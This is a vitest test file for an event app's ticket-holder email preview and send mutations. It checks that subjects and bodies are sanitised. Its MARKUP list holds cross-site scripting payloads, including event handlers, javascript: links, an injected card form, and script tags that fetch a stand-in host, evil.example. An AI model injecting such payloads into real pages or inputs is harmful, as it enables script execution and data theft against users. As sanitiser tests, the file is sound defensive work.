import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { UNDO_MS } from '@marquee/shared/many/act-states';

import { startTestApp, type TestApp } from '../test-app.ts';
import { HOSTILE, runsIn } from './hostile-texts.ts';

const PREVIEW = 'mutation ($input: HoldersMailInput!) { previewEmailToTicketHolders(input: $input) { subject body html text } }';
const SEND = 'mutation ($input: HoldersMailInput!) { sendEmailToTicketHolders(input: $input) { _id } }';

/** Longer than a message may be, and what no operation takes. */
const REFUSED = { 'very long': 'VALIDATION', 'half a character': 'BAD_USER_INPUT' } as const;
const KINDS = Object.keys(HOSTILE).filter((kind) => !(kind in REFUSED));
/** Markup that an editor may be tricked into. */
const MARKUP = [
  '<b onclick="alert(1)">Red</b>',
  '<a href="javascript:alert(1)">Red</a>',
  '<img src=x onerror=alert(1)>Red',
  '<style>*{display:none}</style>Red',
  '<iframe src="//evil.example"></iframe>Red',
  '<form action="//evil.example"><input name="card"></form>Red',
  '<ul><li style="background:url(//evil.example)">Red</li></ul>',
  '<u>Red<b></u><i><script>fetch("//evil.example")</script>',
  '<svg><animate onbegin=alert(1)></svg><p>Red</p>',
  '<!--><script>fetch("//evil.example")</script>--><p>Red</p>',
];

describe('a mail to ticket holders whose subject and body are hostile', () => {
  let world: TestApp;
  beforeAll(async () => void (world = await startTestApp()));
  afterAll(() => world?.stop());

  const anEvent = async () => {
    const { org, token } = await world.given.member('ADMIN');
    const event = await world.given.event(org);
    const { email } = await world.given.paidOrder(event);
    await world.runJobs();
    const say = (document: string, message: { subject: string; body: string }) =>
      world.gql(document, { input: { eventId: event._id, ...message } }, token);
    return { email, say };
  };

  it('Promise 24: the body keeps nothing but bold, italic, underline and lists, in the preview of the mail too', async () => {
    const { say } = await anEvent();
    const bodies = [...MARKUP, ...KINDS.map((kind) => `<p>${HOSTILE[kind]!('Red')}</p>`), ...KINDS.map((kind) => HOSTILE[kind]!('Red'))];
    for (const body of bodies) {
      const { data, errors } = await say(PREVIEW, { subject: 'Doors', body });
      expect([body, errors]).toEqual([body, undefined]);
      const { body: kept, html, text } = data.previewEmailToTicketHolders;
      expect([body, kept.replace(/<\/?(?:b|strong|i|em|u|ul|ol|li|p)>|<br ?\/?>/g, '').match(/<[a-z/!]/i)]).toEqual([body, null]);
      expect([
        body,
        runsIn(html),
        /(?:href|src|action|url)\s*[=(][^>]*evil/i.test(html),
        /<(?:script|iframe|form|svg)/i.test(html),
      ]).toEqual([body, false, false, false]);
      expect(`${html}${text}`).toContain('Red');
    }
  }, 60_000);

  it('Promise 24: the subject is text on one line, in the preview and in the mail that arrives', async () => {
    for (const kind of KINDS) {
      const { email, say } = await anEvent();
      const message = { subject: HOSTILE[kind]!('Red'), body: '<p>Doors at seven.</p>' };
      const { html } = (await say(PREVIEW, message)).data.previewEmailToTicketHolders;
      expect([kind, runsIn(html)]).toEqual([kind, false]);
      expect((await say(SEND, message)).errors).toBeUndefined();
      await world.runJobs();
      world.clock.forward(UNDO_MS);
      await world.runJobs();
      const sent = (await world.mails()).filter(({ to }) => to === email).at(-1)!;
      expect([kind, /[\r\n\0]/.test(sent.subject), sent.subject.includes('Red'), runsIn(sent.html ?? '')]).toEqual([
        kind,
        false,
        true,
        false,
      ]);
    }
    expect((await world.mails()).filter(({ to }) => to.includes('evil'))).toEqual([]);
    world.clock.release();
  }, 120_000);

  it.each(Object.entries(REFUSED))('Promise 24: %s is refused', async (kind, code) => {
    const { say } = await anEvent();
    const text = HOSTILE[kind]!('Red');
    for (const message of [
      { subject: text, body: 'Doors' },
      { subject: 'Doors', body: text },
    ])
      expect((await say(PREVIEW, message)).errors?.[0]?.extensions.code).toBe(code);
  });
});
